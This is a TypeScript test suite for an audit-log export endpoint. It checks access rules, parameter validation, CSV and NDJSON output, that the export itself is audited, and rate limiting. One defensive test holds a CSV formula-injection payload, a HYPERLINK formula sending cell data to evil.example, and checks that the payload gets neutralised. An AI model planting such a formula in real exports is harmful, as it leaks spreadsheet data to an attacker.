// GET /audit/export (SPEC §5): an ENTERPRISE admin's key streams [from, to) oldest first as NDJSON
// or CSV (RFC 4180 quoting, the SPEC's header); no key 401, a member or a FREE team 403, bad
// parameters 400; the export is itself audited.
import { get as httpGet } from 'node:http';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../../src/audit/export.js';
import type { AuditEvent } from '../../src/generated/prisma/client.js';
import { graphql } from '../generated/index.js';
import { gql } from '../helpers/client.js';
import { addTeam, addUser } from '../helpers/fixtures.js';
import { useTestServer } from '../helpers/server.js';

const Report = graphql(
  `mutation AxReport($text: String!, $location: String!) { reportExposedApiKeys(text: $text, location: $location) { id } }`,
);
/** A strict RFC 4180 reader (csv-parse): a quote in an unquoted field or text after a closing quote fails. */
const parseCsv = (text: string): string[][] => parse(text, { record_delimiter: '\r\n' });

const UA = 'Mozilla/5.0 (X11, "quoted"; comma, here)';

const server = useTestServer({ RATE_LIMIT_PER_MINUTE: '100000' });
let exportUrl: string;
let team: Awaited<ReturnType<typeof addTeam>>;
/** The team's events once set up, oldest first. */
let events: AuditEvent[];

const get = (query: string, key: string | null, headers: Record<string, string> = {}) =>
  fetch(`${exportUrl}?${query}`, { headers: { ...(key ? { 'x-api-key': key } : {}), 'user-agent': UA, ...headers } });

const eventsOf = (teamId: string) =>
  server.services.prisma.auditEvent.findMany({ where: { teamId }, orderBy: [{ at: 'asc' }, { id: 'asc' }] });

beforeAll(async () => {
  exportUrl = server.url.replace(/\/graphql$/, '/audit/export');
  team = await addTeam(server);
  const victim = await addUser(server, team.teamId);
  // Text that needs quoting: quotes and commas in a summary and the user agent. (The line break of
  // the reported location is stored as U+FFFD: a scanner's text cannot break a summary's line.)
  const r = await gql(
    server.url,
    Report,
    { text: victim.key, location: 'repo "main", line 3\nand 4' },
    { key: team.apiKey, headers: { 'user-agent': UA } },
  );
  expect(r.errors).toBeUndefined();
  // 4,500 more at one timestamp: the export's batches (2,000) must page through ties by id.
  await server.services.prisma.$executeRawUnsafe(
    `INSERT INTO "AuditEvent" ("id", "teamId", "at", "action", "actorType", "targetType", "targetId", "summary")
     SELECT 'tie-' || lpad(g::text, 5, '0'), $1, now() - interval '1 hour', 'api_key.created', 'SYSTEM', 'api_key', 'k' || g, 'tie ' || g
       FROM generate_series(1, 4500) g`,
    team.teamId,
  );
  events = await eventsOf(team.teamId);
});

const everything = () => `from=2000-01-01T00:00:00Z&to=${encodeURIComponent(new Date(Date.now() + 60_000).toISOString())}`;

describe('who may export', () => {
  it('no key 401; a wrong key 401; a member 403; a FREE team admin 403', async () => {
    const member = await addUser(server, team.teamId);
    const free = await addTeam(server, 'FREE');
    const noKey = await get(everything(), null);
    expect(noKey.status).toBe(401);
    expect(await noKey.json()).toMatchObject({ message: expect.stringMatching(/X-API-Key/) });
    expect((await get(everything(), 'kp_000000000000000000000000000000000000')).status).toBe(401);
    const asMember = await get(everything(), member.key);
    expect(asMember.status).toBe(403);
    expect(asMember.headers.get('content-type')).toMatch(/json/);
    expect((await get(everything(), free.apiKey)).status).toBe(403);
  });

  it('bad parameters are 400 with a JSON message', async () => {
    for (const query of [
      'to=2026-01-01T00:00:00Z',
      'from=2026-01-01T00:00:00Z',
      'from=yesterday&to=2026-01-01T00:00:00Z',
      'from=2026-01-01T00:00:00Z&to=2026-13-01T00:00:00Z',
      'from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z',
      `${everything()}&format=xml`,
      // not a calendar date, year 0, past 9999 once in UTC, a parameter given twice
      'from=2026-02-30&to=2026-04-01',
      'from=2026-01-01T24:00Z&to=2026-04-01',
      'from=0000-01-01&to=2027-01-01',
      'from=2026-01-01&to=9999-12-31T23:59-01:00',
      'from=2026-01-01&from=2026-02-01&to=2026-04-01',
      `${everything()}&format=csv&format=ndjson`,
    ]) {
      const res = await get(query, team.apiKey);
      expect(res.status, query).toBe(400);
      expect(((await res.json()) as { message: string }).message, query).toBeTruthy();
    }
  });
});

describe('formats', () => {
  it('CSV: the SPEC header, then every event oldest first, quoted so that a real reader gets the values back', async () => {
    const res = await get(`${everything()}&format=csv`, team.apiKey);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const text = await res.text();
    expect(text.split('\r\n', 1)[0]).toBe('at,action,actorType,actorId,actorKeyHint,targetType,targetId,summary,address,userAgent');
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([...CSV_COLUMNS]);
    // Every event of the team, this export's own audit.exported (written before the first byte) the last.
    const events = await eventsOf(team.teamId);
    expect(events.at(-1)!.action).toBe('audit.exported');
    expect(rows).toHaveLength(events.length);
    rows.forEach((row, i) => {
      const e = events[i]!;
      expect(row).toEqual([
        e.at.toISOString(),
        e.action,
        e.actorType,
        e.actorId ?? '',
        e.actorKeyHint ?? '',
        e.targetType,
        e.targetId ?? '',
        e.summary,
        e.address ?? '',
        e.userAgent ?? '',
      ]);
    });
    const exposure = rows.find((r) => r[1] === 'exposure.reported')!;
    expect(exposure[7]).toContain('repo "main", line 3\ufffdand 4');
    expect(exposure[9]).toBe(UA);
  });

  it('NDJSON: one JSON object per line, oldest first, the same events', async () => {
    const res = await get(everything(), team.apiKey); // ndjson is the default
    expect(res.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
    const lines = (await res.text()).split('\n');
    expect(lines.pop()).toBe(''); // every line ends with \n
    const parsed = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(parsed.map((e) => e.id)).toEqual((await eventsOf(team.teamId)).map((e) => e.id));
    expect(parsed.length).toBeGreaterThan(4_500);
    const first = parsed.find((e) => e.action === 'exposure.reported')!;
    expect(first).toMatchObject({
      actorType: 'USER',
      userAgent: UA,
      address: '127.0.0.1',
      summary: expect.stringContaining('line 3\ufffdand 4'),
    });
  });

  it('from is inclusive, to exclusive', async () => {
    const all = events.filter((e) => !e.id.startsWith('tie-'));
    const from = all[0]!.at;
    const to = all.at(-1)!.at;
    const res = await get(`from=${from.toISOString()}&to=${to.toISOString()}`, team.apiKey);
    const ids = (await res.text())
      .trim()
      .split('\n')
      .map((l) => (JSON.parse(l) as { id: string }).id);
    expect(ids).toEqual(events.filter((e) => e.at >= from && e.at < to).map((e) => e.id));
    expect(ids).toContain(all[0]!.id);
    expect(ids).not.toContain(all.at(-1)!.id);
  });

  it('the export is audited: audit.exported by the admin, with the range', async () => {
    const before = new Date();
    await (await get(`from=2026-01-01&to=2026-02-01&format=csv`, team.apiKey)).text();
    const [exported] = await server.services.prisma.auditEvent.findMany({ where: { teamId: team.teamId, at: { gte: before } } });
    expect(exported).toMatchObject({
      action: 'audit.exported',
      actorType: 'USER',
      actorId: team.userId,
      address: '127.0.0.1',
      userAgent: UA,
      summary: expect.stringContaining('2026-01-01T00:00:00.000Z to 2026-02-01T00:00:00.000Z as csv'),
    });
  });

  it('a client that goes away mid-export ends it; the server goes on answering', async () => {
    // node:http, so that the socket is the one this test closes (fetch pools its connections).
    const closedAfter = await new Promise<number>((resolve, reject) => {
      const req = httpGet(`${exportUrl}?${everything()}&format=ndjson`, { headers: { 'x-api-key': team.apiKey } }, (res) => {
        res.once('data', (chunk: Buffer) => {
          req.destroy();
          resolve(chunk.length);
        });
      });
      req.on('error', (error) => (req.destroyed ? undefined : reject(error)));
    });
    expect(closedAfter).toBeGreaterThan(0);
    const again = await get(`${everything()}&format=csv`, team.apiKey);
    expect(again.status).toBe(200);
    expect((await again.text()).length).toBeGreaterThan(100_000);
  });

  it('no event holds a secret', async () => {
    for (const row of await eventsOf(team.teamId)) expect(JSON.stringify(row)).not.toMatch(/kp[cs]?_[0-9A-Za-z]{36}|kpinv_/);
  });
});

describe('hostile text and limits', () => {
  it('CSV: a cell a spreadsheet would run as a formula (here the client-chosen user agent) starts with an apostrophe', async () => {
    const victim = await addUser(server, team.teamId);
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const r = await gql(
      server.url,
      Report,
      { text: victim.key, location: 'formula test' },
      { key: team.apiKey, headers: { 'user-agent': evil } },
    );
    expect(r.errors).toBeUndefined();
    const [, ...rows] = parseCsv(await (await get(`${everything()}&format=csv`, team.apiKey)).text());
    const row = rows.find((cells) => cells[1] === 'exposure.reported' && cells[7]!.includes('formula test'))!;
    expect(row[9]).toBe(`'${evil}`);
    // NDJSON keeps the text exact.
    const lines = (await (await get(everything(), team.apiKey)).text()).trim().split('\n');
    const event = lines
      .map((l) => JSON.parse(l) as { action: string; summary: string; userAgent: string | null })
      .find((e) => e.summary.includes('formula test'))!;
    expect(event.userAgent).toBe(evil);
  });
});

describe('the rate limit of the key counts an export as one request', () => {
  const limited = useTestServer({ RATE_LIMIT_PER_MINUTE: '2' });
  it('X-RateLimit-* on the answer; past the limit 429 with Retry-After, before the role check', async () => {
    const url = `${limited.url.replace(/\/graphql$/, '/audit/export')}?${everything()}`;
    const admin = await addTeam(limited);
    const first = await fetch(url, { headers: { 'x-api-key': admin.apiKey } });
    expect(first.status).toBe(200);
    expect(first.headers.get('x-ratelimit-limit')).toBe('2');
    expect(first.headers.get('x-ratelimit-remaining')).toBe('1');
    await first.text();
    expect((await fetch(url, { headers: { 'x-api-key': admin.apiKey } })).status).toBe(200);
    const refused = await fetch(url, { headers: { 'x-api-key': admin.apiKey } });
    expect(refused.status).toBe(429);
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
    // A member past the limit is refused 429, not 403 (SPEC §4: rate limit before role).
    const member = await addUser(limited, admin.teamId);
    for (let i = 0; i < 2; i += 1) expect((await fetch(url, { headers: { 'x-api-key': member.key } })).status).toBe(403);
    expect((await fetch(url, { headers: { 'x-api-key': member.key } })).status).toBe(429);
  });
});
